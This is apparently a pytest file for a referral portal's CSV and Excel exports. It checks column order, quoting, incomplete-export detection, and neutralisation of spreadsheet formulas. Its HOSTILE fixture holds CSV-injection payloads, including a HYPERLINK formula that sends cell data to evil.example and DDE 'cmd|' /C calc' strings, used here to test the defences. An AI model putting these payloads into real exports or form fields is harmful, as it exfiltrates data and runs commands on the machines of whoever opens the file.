"""CSV and Excel exports: the documented columns, neutralised formulas, and never silently short."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from forms.referral import STEPS
from portal import db
from portal.cli.seed import seed_referrals
from portal.models import Referral
from portal.services import crypto
from portal.services.exports import tabular
from portal.services.exports.columns import ANSWER_COLUMNS, HEADINGS, neutralise
from portal.services.exports.selection import Selection, take_snapshot
from tests.support.staff import sign_in_as

DOCUMENTED_ORDER = [
    "Reference",
    "Received",
    "Review due",
    "Status",
    "Outcome",
    "Rating",
    "Consent date",
    "Consent given by",
    "Consent wording version",
    "Best-interest decision needed",
]
HOSTILE = {
    "full_name": '=HYPERLINK("http://evil.example/?x="&A1,"Click me")',
    "town": "+1+cmd|' /C calc'!A0",
    "address_line_1": "-1+2",
    "gp_practice": "@SUM(1+1)*cmd|' /C calc'!A0",
    "contact_times": "\tTab first",
    "contact_notes": "\rCarriage return first",
    "support": "\0=1+1",
    "situation": "-1",
}


def seed_hostile(app, count: int = 3) -> list[str]:
    """Referrals whose answers start with every formula trigger (stored straight, as an import might)."""
    with app.app_context():
        seed_referrals(count)
        session = db.session()
        with db.unit_of_work():
            for referral in session.scalars(select(Referral)):
                answers = crypto.unseal(referral.answers_sealed)
                referral.answers_sealed = crypto.seal({**answers, **HOSTILE})
        return list(session.scalars(select(Referral.reference).order_by(Referral.id)))


def export(client, references: list[str], fmt: str):
    page = client.get("/staff/downloads")
    return client.client.post(
        "/staff/export",
        data={
            "csrf_token": page.soup.select_one("input[name=csrf_token]")["value"],
            "references": "\n".join(references),
            "format": fmt,
        },
    )


def read_csv(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_excel(body: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(body), read_only=True).active
    return [["" if cell is None else str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)]


def test_the_columns_follow_the_documented_minimum_dataset_order():
    assert list(HEADINGS[: len(DOCUMENTED_ORDER)]) == DOCUMENTED_ORDER
    assert HEADINGS[len(DOCUMENTED_ORDER) + 1 : len(DOCUMENTED_ORDER) + 5] == (
        "Full name",
        "Preferred name",
        "Date of birth",
        "NHS number",
    )


def test_every_question_of_the_journey_has_a_column():
    keys = {key for key, _heading in ANSWER_COLUMNS}
    questions = {q.id for step in STEPS for q in step.questions if not q.id.startswith(("consent_", "more_"))}
    assert questions - keys == set()


@pytest.mark.parametrize("hostile", [*HOSTILE.values(), "|calc", "%0A"])
def test_neutralise_turns_every_formula_start_into_text(hostile):
    cell = neutralise(hostile)
    assert cell.startswith("'")
    assert "\0" not in cell


@pytest.mark.parametrize("harmless", ["Norwich", "1 High Street", "O'Neil", "Zoë", "محمد"])
def test_neutralise_leaves_ordinary_text_alone(harmless):
    assert neutralise(harmless) == harmless


def test_csv_export_has_the_documented_columns_and_neutralised_formulas(app, client):
    references = seed_hostile(app)
    sign_in_as(app, client)
    response = export(client, references, "csv")
    assert response.status_code == 200
    table = read_csv(response.get_data())
    assert table[0] == list(HEADINGS)
    assert [row[0] for row in table[1:-1]] == references
    assert tabular.check_complete(table) == 3
    row = dict(zip(table[0], table[1], strict=False))
    assert row["Full name"] == "'" + HOSTILE["full_name"]
    assert row["Town or city"] == "'+1+cmd|' /C calc'!A0"
    assert row["Address line 1"] == "'-1+2"
    assert row["GP surgery"].startswith("'@SUM")
    assert row["Good times to contact"] == "'\tTab first"
    assert row["Notes about contacting"] == "'\rCarriage return first"
    assert row["Support in place"] == "'=1+1"
    assert row["What is happening, in their words"] == "'-1"
    for cell in (c for line in table for c in line):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0")), cell


def test_csv_is_rfc_4180(app, client):
    references = seed_hostile(app, 1)
    sign_in_as(app, client)
    body = export(client, references, "csv").get_data().decode("utf-8-sig")
    assert body.endswith("\r\n")
    assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")"' in body  # quotes doubled, cell quoted


def test_excel_export_has_the_same_rows_with_no_formula_and_no_number(app, client):
    references = seed_hostile(app)
    sign_in_as(app, client)
    response = export(client, references, "xlsx")
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.get_data()))
    sheet = workbook.active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert cells and all(cell.data_type == "s" for cell in cells), {c.data_type for c in cells}
    table = read_excel(response.get_data())
    assert table[0] == list(HEADINGS)
    assert tabular.check_complete(table) == 3
    row = dict(zip(table[0], table[1], strict=False))
    assert row["Full name"] == "'" + HOSTILE["full_name"]
    assert row["Support in place"] == "'=1+1"
    assert row["Good times to contact"] == "'\tTab first"


def test_a_date_range_export_holds_every_referral_in_the_range(app, client):
    with app.app_context():
        seed_referrals(30)
    sign_in_as(app, client)
    page = client.get("/staff/downloads")
    response = client.client.post(
        "/staff/export",
        data={
            "csrf_token": page.soup.select_one("input[name=csrf_token]")["value"],
            "received_from-day": "1",
            "received_from-month": "1",
            "received_from-year": "2000",
            "format": "csv",
        },
    )
    table = read_csv(response.get_data())
    assert tabular.check_complete(table) == 30


def test_an_export_cut_short_is_seen_to_be_incomplete(app):
    with app.app_context(), app.test_request_context():
        seed_referrals(7)
        snapshot = take_snapshot(Selection(references=()))
        chunks = list(tabular.csv_chunks(snapshot))
    whole = read_csv("".join(chunks).encode())
    assert tabular.check_complete(whole) == 7
    cut = read_csv("".join(chunks)[: len("".join(chunks)) // 2].encode())
    with pytest.raises(tabular.IncompleteExportError):
        tabular.check_complete(cut)
    with pytest.raises(tabular.IncompleteExportError):
        tabular.check_complete([*whole[:-2], whole[-1]])  # a row lost in the middle


def test_an_export_that_fails_part_way_says_so_in_the_file_and_breaks_the_download(app):
    with app.app_context():
        seed_referrals(5)
        with db.unit_of_work() as session:
            broken = session.scalars(select(Referral).order_by(Referral.id)).all()[3]
            broken.answers_sealed = "not a sealed document"
    with app.app_context(), app.test_request_context():
        snapshot = take_snapshot(Selection())
        written = []
        with pytest.raises(Exception, match="sealed"):
            for chunk in tabular.csv_chunks(snapshot):  # the server breaks the connection on this error
                written.append(chunk)
    table = read_csv("".join(written).encode())
    assert table[-1][0] == "EXPORT FAILED"
    assert "after 3 of 5" in table[-1][1]
    with pytest.raises(tabular.IncompleteExportError, match="failed"):
        tabular.check_complete(table)


def test_no_consent_date_is_given_while_a_best_interest_decision_is_awaited(app, client):
    """The consent date is in the DSR minimum dataset: a referral that says nobody could consent has none yet."""
    from tests.staff.test_record import refer

    awaited = refer(app, who={"who": "family_carer"}, consent_adult_behalf={"consent_adult_behalf": "best_interest"})
    agreed = refer(app)
    sign_in_as(app, client)
    table = read_csv(export(client, [awaited, agreed], "csv").get_data())
    rows = {row[0]: dict(zip(table[0], row, strict=False)) for row in table[1:-1]}
    assert rows[awaited]["Consent date"] == "" and rows[awaited]["Best-interest decision needed"] == "yes"
    assert rows[agreed]["Consent date"] == rows[agreed]["Received"]
